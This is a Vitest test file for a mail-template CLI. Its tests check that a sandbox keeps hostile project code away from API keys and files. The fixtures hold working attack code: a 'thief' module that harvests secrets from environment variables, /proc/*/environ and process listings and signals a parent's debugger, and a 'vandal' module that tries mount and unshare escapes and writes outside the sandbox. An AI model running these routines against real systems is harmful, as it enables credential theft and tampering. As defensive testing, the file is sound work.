import { spawn, spawnSync } from "node:child_process";
import { randomUUID } from "node:crypto";
import { chownSync, existsSync, readdirSync, readFileSync, symlinkSync } from "node:fs";
import path from "node:path";
import { setTimeout as sleep } from "node:timers/promises";
import { fileURLToPath } from "node:url";
import { describe, expect, onTestFinished, test } from "vitest";
import { createSandbox } from "../../../src/process/sandbox.js";
import { commands } from "../../../src/cli/commands.js";
import { run as runCommand } from "../../../src/cli/run.js";
import { ConfigurationError } from "../../../src/errors.js";
import { htmlTemplate, runHere, TestProject } from "../project.js";

const built = (file: string): string => JSON.stringify(new URL(`../../../dist/${file}`, import.meta.url).href);

const long = process.env["MODE"] === "long";

/** Reads and compiles the project like a command with a key, and prints the result. */
const driver = `
import { withKeylessProject } from ${built("cli/keyless/keyless-project.js")};
const flags = { cwd: undefined, config: undefined };
await withKeylessProject(flags, new AbortController().signal, async ({ project, compile }) => {
  const compiled = await compile([], project.environments.production?.assets);
  console.log(JSON.stringify({ pid: process.pid, project, ...compiled, key: process.env.MAIL_LOGIN }));
});
`;

/** Where hostile code records what it found: in one of the few folders that it can write to. */
const LOOT = ".lettershop/modules/loot.txt";

/** Code that searches for keys. The keys in these tests have a unique form. */
const thief = `
import { execSync } from "node:child_process";
import { appendFileSync, fstatSync, readdirSync, readFileSync } from "node:fs";
import { getEnvironmentData, parentPort, SHARE_ENV, Worker, workerData } from "node:worker_threads";

const attempt = (work: () => unknown): string => {
  try {
    const found = work();
    return typeof found === "string" ? found : JSON.stringify(found) ?? "";
  } catch {
    return "";
  }
};
const environ = (pid: string) => attempt(() => readFileSync("/proc/" + pid + "/environ", "utf8"));

export function steal(where: string): string {
  // A component runs again for each value of each variable that it reads, so search only once.
  const looks = attempt(() => readFileSync("${LOOT}", "utf8")).split(JSON.stringify({ where }).slice(0, -1)).length - 1;
  if (looks >= 4) return "stolen in " + process.env.LANG;
  const pids = readdirSync("/proc").filter((name) => /^\\d+$/.test(name) && environ(name) !== "");
  const loot = [
    attempt(() => process.env),
    attempt(() => (process.report as any).getReport()),
    environ("self"),
    environ(String(process.ppid)),
    ...pids.map(environ),
    attempt(() => execSync("env; ps auxeww", { encoding: "utf8", stdio: ["ignore", "pipe", "ignore"] })),
    attempt(() => [workerData, getEnvironmentData("env"), (globalThis as any).process.argv]),
    attempt(() => Object.getOwnPropertyNames(globalThis).map((name) => String((globalThis as any)[name]))),
    attempt(() => process.mainModule),
    ...Array.from({ length: 30 }, (_, fd) => attempt(() => fstatSync(fd).isFile() && readFileSync(fd, "utf8"))),
  ];
  attempt(() => new Worker("require('fs').appendFileSync('.lettershop/modules/loot.txt', JSON.stringify(process.env) + '\\\\n')", { eval: true, env: SHARE_ENV }));
  attempt(() => parentPort?.on("message", (message) => appendFileSync(".lettershop/modules/loot.txt", JSON.stringify(message) + "\\n")));
  // Starts the debugger of an unprotected Node.js process.
  attempt(() => process.ppid > 0 && process.kill(process.ppid, "SIGUSR1"));
  const keys = [...new Set(loot.join().match(/key-of-[a-z]+-[0-9a-f-]{36}/g) ?? [])];
  appendFileSync(".lettershop/modules/loot.txt", JSON.stringify({ where, keys, pids, LANG: process.env.LANG }) + "\\n");
  return "stolen in " + process.env.LANG;
}
`;

const hostile = {
  "thief.ts": thief,
  "driver.mjs": driver,
  "lettershop.config.ts": `
    import { steal } from "./thief.js";
    const baseUrl = "https://cdn.example.com/?" + encodeURIComponent(steal("config"));
    export default { environments: { production: {
      url: "https://api.example.com", domain: "example.com", keyVariable: "MAIL_LOGIN", assets: { baseUrl },
    } } };`,
  "templates/tsx/tsx.tsx": `
    import { steal } from "../../thief.js";
    const found = steal("tsx");
    export const subject = "Hi";
    export default function Mail() {
      return <html lang="en"><head><title>Hi</title></head><body><p>{found}</p></body></html>;
    }`,
  "templates/schema/schema.html": htmlTemplate("x")["templates/x/x.html"] ?? "",
  "templates/schema/template.json": `{ "subject": "For {{name}}" }`,
  "templates/schema/fixtures/default.json": `{ "name": "Ada" }`,
  "templates/schema/variables.ts": `
    import { z } from "zod";
    import { steal } from "../../thief.js";
    steal("variables");
    export default z.object({ name: z.string() });
    export function derive() { return { derived: steal("derive") }; }`,
};

/** Code that blocks a thread, forever or for some milliseconds. */
const wait = (milliseconds?: number) =>
  `Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0, ${milliseconds});`;

/** Commands that use no service, or only the local one, or leave it to another process. */
const WITHOUT_KEY = new Set([
  "init",
  "new",
  "build",
  "check",
  "types",
  "render",
  "derive",
  "preview",
  "dev",
  "service",
  "outbox",
]);
const OPERANDS: Readonly<Record<string, readonly string[]>> = {
  send: ["one", "--to", "ada@example.org"],
  promote: ["staging", "staging"],
  restore: ["one"],
  trace: ["ada@example.org"],
};

function key(of: string): string {
  return `key-of-${of}-${randomUUID()}`;
}

const staging = {
  "lettershop.config.json": JSON.stringify({
    environments: { staging: { url: "http://127.0.0.1:1", domain: "example.test" } },
  }),
};

const sendOne = ["send", "one", "--to", "ada@example.org"];
const stagingEnv = { LETTERSHOP_ENV: "staging", LETTERSHOP_API_KEY: "a-key" };

interface Ended {
  readonly code: number | null;
  readonly stdout: string;
  readonly stderr: string;
}

/** Runs a program in the project until it exits. */
async function run(project: TestProject, args: readonly string[], env: Record<string, string>): Promise<Ended> {
  const { PATH = "", HOME = "", SystemRoot = "" } = process.env;
  const child = spawn(process.execPath, args, { cwd: project.folder, env: { PATH, HOME, SystemRoot, ...env } });
  onTestFinished(() => void child.kill("SIGKILL"));
  let [stdout, stderr] = ["", ""];
  child.stdout.setEncoding("utf8").on("data", (text: string) => (stdout += text));
  child.stderr.setEncoding("utf8").on("data", (text: string) => (stderr += text));
  return new Promise((resolve) => child.on("close", (code) => resolve({ code, stdout, stderr })));
}

function commandOf({ folder }: TestProject): readonly string[] {
  return createSandbox({ folder, dataFolder: path.join(folder, ".lettershop") }).command;
}

interface Loot {
  readonly where: string;
  readonly keys: readonly string[];
  readonly pids: readonly string[];
}

function lootOf(project: TestProject): Loot[] {
  return readFileSync(project.path(LOOT), "utf8")
    .split("\n")
    .filter((line) => line.startsWith(`{"where"`))
    .map((line) => JSON.parse(line) as Loot);
}

// Each starts several processes.
describe("a project whose code looks for keys", () => {
  test("finds none in its own process, in other and parent processes, or in any message", async () => {
    const project = new TestProject({
      ...hostile,
      "above.mjs": `
        import { spawnSync } from "node:child_process";
        const { status } = spawnSync(process.execPath, ["driver.mjs"], { stdio: "inherit" });
        process.exitCode = status;`,
    });
    const isHidden = commandOf(project).length > 0;
    const secrets = { LETTERSHOP_API_KEY: key("account"), NPM_TOKEN: key("registry") };
    // The name doesn't look like a key's, so only the configuration that declares it can read it.
    const login = key("login");
    const env = { ...secrets, MAIL_LOGIN: login, LANG: "de_CH" };
    // Parent processes are only protected if Linux allows namespaces.
    const ended = await run(project, [isHidden ? "above.mjs" : "driver.mjs"], env);
    expect(ended).toMatchObject({ code: 0, stderr: "" });

    expect([...new Set(lootOf(project).map(({ where }) => where))].toSorted()).toEqual([
      "config",
      "derive",
      "tsx",
      "variables",
    ]);
    const everything = readFileSync(project.path(LOOT), "utf8") + ended.stdout;
    for (const secret of Object.values(secrets)) expect(everything).not.toContain(secret);
    // Other variables are available, and so is what the code wrote into the email.
    const { templates, pid, key: own } = JSON.parse(ended.stdout);
    const { html_body } = templates.find(({ name }: { name: string }) => name === "tsx");
    expect(html_body).toContain("stolen in de_CH");
    if (isHidden) for (const { pids } of lootOf(project)) expect(pids).not.toContain(String(pid));
    // Other tests that run now have keys of their own.
    const thefts = lootOf(project).filter(({ keys }) =>
      keys.some((each) => [...Object.values(secrets), login].includes(each)),
    );
    expect(thefts.map(({ where }) => where)).not.toEqual(
      expect.arrayContaining([expect.stringMatching(/tsx|var|der/)]),
    );
    // The command itself has the key.
    expect(own).toBe(login);
  });

  test.each(Object.keys(commands).filter((name) => !WITHOUT_KEY.has(name)))(
    "runs in another process for %s",
    async (name) => {
      const { folder } = new TestProject({ ...staging, ...htmlTemplate("one") });
      const { [name]: args = [] } = OPERANDS;
      const { signal } = new AbortController();
      const withKeylessProject = () => Promise.reject(new ConfigurationError("Elsewhere."));
      const ended = await runHere(folder, stagingEnv, (streams) =>
        runCommand([name, ...args], { ...streams, signal, withKeylessProject }),
      );
      expect(ended).toEqual({ code: 2, stdout: "", stderr: "Elsewhere.\n" });
    },
  );

  test.runIf(process.getuid?.() === 0)("finds none if Linux does not allow namespaces", async () => {
    const { "thief.ts": code, "driver.mjs": program, "lettershop.config.ts": configuration } = hostile;
    const project = new TestProject({
      "thief.ts": code,
      "driver.mjs": program,
      "lettershop.config.ts": configuration,
      ...htmlTemplate("one"),
    });
    chownSync(project.folder, 65_534, 65_534);
    expect(commandOf(project)).toEqual([]);
    const secret = key("account");
    const ended = await run(project, ["driver.mjs"], { LETTERSHOP_API_KEY: secret });
    expect(ended).toMatchObject({ code: 0, stderr: "" });
    expect(readFileSync(project.path(LOOT), "utf8") + ended.stdout).not.toContain(secret);
    // The code did search there.
    expect(lootOf(project).some(({ pids }) => pids.includes(String(JSON.parse(ended.stdout).pid)))).toBe(true);
  });

  test.runIf(process.platform === "linux")("no key remains in the command's memory in /proc", async () => {
    const project = new TestProject({
      "hide.mjs": `
        import { execSync } from "node:child_process";
        import { hideFromSystem } from ${built("project/own-environment.js")};
        hideFromSystem(["A_KEY", "NOT_SET"]);
        const shown = execSync("tr '\\\\0' '\\\\n' < /proc/" + process.pid + "/environ", { encoding: "utf8", env: {} });
        console.log(JSON.stringify({ shown, A_KEY: process.env.A_KEY, B: process.env.B }));`,
    });
    const secret = key("memory");
    const { stdout } = await run(project, ["hide.mjs"], { A_KEY: secret, B: "Zoë" });
    const { shown, ...own } = JSON.parse(stdout);
    expect(own).toEqual({ A_KEY: secret, B: "Zoë" });
    expect(shown).toContain("B=Zoë");
    expect(shown).not.toContain(secret);
  });

  test.runIf(process.platform !== "win32").each([
    ["an answer", { id: 3, value: { templates: [{ name: "../x" }] } }],
    ["something else", "key?"],
  ])("%s that project code forges is not used", async (_, message) => {
    const project = new TestProject({
      ...staging,
      ...htmlTemplate("one"),
      "templates/one/variables.ts": `
        import { writeSync } from "node:fs";
        writeSync(3, ${JSON.stringify(`${JSON.stringify(message)}\n`)});
        export default {};`,
    });
    const { code, stderr } = await project.runKeyless(sendOne, stagingEnv);
    expect(code).toBe(2);
    expect(stderr).toContain("Project code tampered with the compiler's output.");
  });
});

/** Files that hostile code would change to affect a later step or the command itself. */
const vandal = `
import { execSync } from "node:child_process";
import { appendFileSync, mkdirSync, readFileSync, symlinkSync, writeFileSync } from "node:fs";
import { homedir, tmpdir } from "node:os";
import path from "node:path";

export function damage(where: string): string {
  const places = [
    ${JSON.stringify(fileURLToPath(new URL("../../../dist/cli/keyless/preload.js", import.meta.url)))},
    ${JSON.stringify(fileURLToPath(new URL("../../../node_modules/undici/index.js", import.meta.url)))},
    ...["package.json", "lettershop.config.ts", "templates/one/one.html", "templates.lock.json"],
    ...[".lettershop/sync/production/journal", ".lettershop/service.json", ".lettershop/.gitignore", ".git/hooks/x"],
    ...[path.join(homedir(), ".profile-of-lettershop"), "/tmp/of-lettershop", "/dev/shm/of-lettershop", "outside.txt"],
    ...readFileSync("files.txt", "utf8").split("\\n"),
  ];
  const attempt = (work: () => unknown) => { try { work(); return true; } catch { return false; } };
  const append = (file: string) => {
    if (path.isAbsolute(file) && !file.includes("of-lettershop")) return appendFileSync(file, "");
    mkdirSync(path.dirname(file), { recursive: true });
    appendFileSync(file, "");
  };
  const written = places.filter((file) => attempt(() => append(file)));
  attempt(() => symlinkSync("../..", ".lettershop/cache/link"));
  if (attempt(() => appendFileSync(".lettershop/cache/link/through-a-link.txt", ""))) written.push("through a link");
  for (const command of [
    "mount -o remount,bind,rw none / && echo > by-remount.txt",
    "unshare --user --map-root-user --mount sh -c 'mount -o remount,bind,rw none / && echo > by-unshare.txt'",
    "unshare --user --map-root-user --mount sh -c 'umount -l / && echo > by-umount.txt'",
  ]) if (attempt(() => execSync(command, { stdio: "ignore" }))) written.push(command);
  attempt(() => writeFileSync(path.join(tmpdir(), "own.txt"), "")) || written.push("no folder for temporary files");
  appendFileSync(".lettershop/modules/loot.txt", JSON.stringify({ where, written }) + "\\n");
  return where;
}
`;

/** Simulates a machine without namespaces: a user namespace that may not contain others. */
const WITHOUT_NAMESPACES = 'echo 0 > /proc/sys/user/max_user_namespaces && exec "$0" "$@"';

describe("a project whose code changes files", () => {
  const files = {
    "vandal.ts": vandal,
    "driver.mjs": driver,
    "files.txt": "package-lock.json",
    "lettershop.config.ts": `
      import { damage } from "./vandal.js";
      damage("config");
      export default { locale: "en", environments: { production: { url: "http://127.0.0.1:1", domain: "example.com" } } };`,
    ...htmlTemplate("one"),
    "templates/one/variables.ts": `
      import { z } from "zod";
      import { damage } from "../../vandal.js";
      damage("variables");
      export default z.object({ name: z.string() });
      export const derive = () => ({ where: damage("derive") });`,
    "templates/tsx/tsx.tsx": `
      import { damage } from "../../vandal.js";
      damage("tsx");
      export const subject = "Hi";
      export default function Mail() {
        return <html lang="en"><head><title>Hi</title></head><body><p>Hi</p></body></html>;
      }`,
  };
  const writtenIn = (project: TestProject) =>
    readFileSync(project.path(LOOT), "utf8")
      .trim()
      .split("\n")
      .map((line): { readonly where: string; readonly written: readonly string[] } => JSON.parse(line));

  test("can write only to its caches and to temporary files if Linux allows namespaces", async ({ skip }) => {
    const project = new TestProject(files);
    skip(!commandOf(project).includes("--mount"), "this system does not allow mount namespaces");
    const ended = await run(project, ["driver.mjs"], {});
    expect(ended).toMatchObject({ code: 0, stderr: "" });
    const places = [...new Set(writtenIn(project).map(({ where }) => where))].toSorted();
    expect(places).toEqual(["config", "derive", "tsx", "variables"]);
    expect([...new Set(writtenIn(project).flatMap(({ written }) => written))]).toEqual([]);
    // Temporary files disappear with the process.
    expect(readdirSync(project.path(".lettershop/tmp"))).toEqual([]);
  });

  test("can't write through a symbolic link in place of one of its folders", async ({ skip }) => {
    const project = new TestProject({ ...staging, ...htmlTemplate("one"), "elsewhere/file.txt": "" });
    skip(commandOf(project).length === 0, "this system does not allow namespaces");
    project.remove(".lettershop/cache");
    symlinkSync("../elsewhere", project.path(".lettershop/cache"));
    const { code, stderr } = await project.runKeyless(sendOne, stagingEnv);
    expect(code).toBe(2);
    expect(stderr).toContain(`${project.path(".lettershop/cache")} is a symbolic link`);
  });

  test("makes a command with a key print one warning if the system does not allow namespaces", async ({ skip }) => {
    const project = new TestProject({ ...staging, ...htmlTemplate("one") });
    skip(commandOf(project).length === 0, "only a namespace can be told to allow none");
    const status = async (environment: string) => {
      const main = fileURLToPath(new URL("../../../dist/cli/main.js", import.meta.url));
      const command = ["/bin/sh", "-c", WITHOUT_NAMESPACES, process.execPath, main, "status", "--env", environment];
      const { PATH = "", HOME = "" } = process.env;
      const env = { PATH, HOME, LETTERSHOP_API_KEY: "a-key" };
      const options = { cwd: project.folder, env, encoding: "utf8" } as const;
      return spawnSync("unshare", ["--user", "--map-root-user", ...command], options).stderr;
    };
    const warning = "template code can write files on this machine";
    expect((await status("staging")).split(warning)).toHaveLength(2);
    expect(await status("local")).not.toContain(warning);
    expect((await project.runKeyless(["status"], stagingEnv)).stderr).not.toContain(warning);
  });
});

describe("errors in the compiler process are reported as if they happened in the command", () => {
  test.each<readonly [string, Readonly<Record<string, string>>]>([
    ["a configuration that throws", { "lettershop.config.ts": `export default {\n  templates: nothing,\n};` }],
    ...(long
      ? ([
          ["a configuration with a wrong key", { "lettershop.config.json": `{ "template": "x" }` }],
          ["no template of that name", htmlTemplate("ones")],
        ] as const)
      : []),
    ["a variables.ts that throws", { ...htmlTemplate("one"), "templates/one/variables.ts": `throw new Error("no");` }],
  ])("%s", async (_, files) => {
    const project = new TestProject({
      ...("lettershop.config.ts" in files ? {} : staging),
      ...files,
    });
    const here = await project.run(["render", "one"], stagingEnv);
    const there = await project.runKeyless(sendOne, stagingEnv);
    expect(there.code).toBe(here.code);
    const withoutTarget = there.stderr.replace(/^Environment staging.*\n/, "");
    expect(here.stderr).toContain(withoutTarget.trim());
  });

  test.runIf(process.platform !== "win32")("reports that the process ended, with a hint", async () => {
    const project = new TestProject({
      ...staging,
      ...htmlTemplate("one"),
      // The first process of a namespace can only be killed from outside: with unshare, a moment later.
      "templates/one/variables.ts": `process.kill(0, "SIGKILL"); ${wait()}`,
    });
    const { code, stderr } = await project.runKeyless(sendOne, stagingEnv);
    expect(code).toBe(2);
    expect(stderr).toMatch(/The process that compiles the templates ended (?:by SIG\w+|with code \d+)\./);
    expect(stderr).toContain("templates build NAME");
  });

  test("Ctrl-C ends the compiler process and everything that it started", async () => {
    const project = new TestProject({
      ...staging,
      ...htmlTemplate("one"),
      "templates/one/variables.ts": `
        import { spawn, spawnSync } from "node:child_process";
        import { writeFileSync } from "node:fs";
        spawn(process.execPath, ["-e", "setInterval(() => require('fs').writeFileSync('.lettershop/modules/beat.txt', String(Date.now())), 20)"]);
        ${wait()}`,
    });
    const running = project.start(sendOne, stagingEnv);
    await expect.poll(() => existsSync(project.path(".lettershop/modules/beat.txt"))).toBe(true);
    running.kill("SIGINT");
    expect(await running.ended).toMatchObject({
      code: 130,
      stderr: expect.stringContaining("Interrupted before the templates were compiled."),
    });
    await hasStopped(project.path(".lettershop/modules/beat.txt"));
  });
});

test("killing the command also ends the compiler process", async () => {
  const project = new TestProject({
    "driver.mjs": driver,
    ...htmlTemplate("one"),
    "templates/one/variables.ts": `
      import { writeFileSync } from "node:fs";
      for (;;) { writeFileSync(".lettershop/modules/beat.txt", String(Date.now())); ${wait(20)} }`,
  });
  const child = spawn(process.execPath, ["driver.mjs"], { cwd: project.folder, stdio: "ignore" });
  onTestFinished(() => void child.kill("SIGKILL"));
  await expect.poll(() => existsSync(project.path(".lettershop/modules/beat.txt"))).toBe(true);
  child.kill("SIGKILL");
  await hasStopped(project.path(".lettershop/modules/beat.txt"));
});

/** Waits until nobody writes the file any more: processes in a killed namespace end a moment later. */
async function hasStopped(file: string): Promise<void> {
  const isSame = async () => {
    const before = readFileSync(file, "utf8");
    await sleep(500);
    return readFileSync(file, "utf8") === before;
  };
  await expect.poll(isSame).toBe(true);
}

test("the compiler process is part of the published package", () => {
  expect(existsSync(fileURLToPath(new URL("../../../dist/cli/keyless/compiler.js", import.meta.url)))).toBe(true);
});
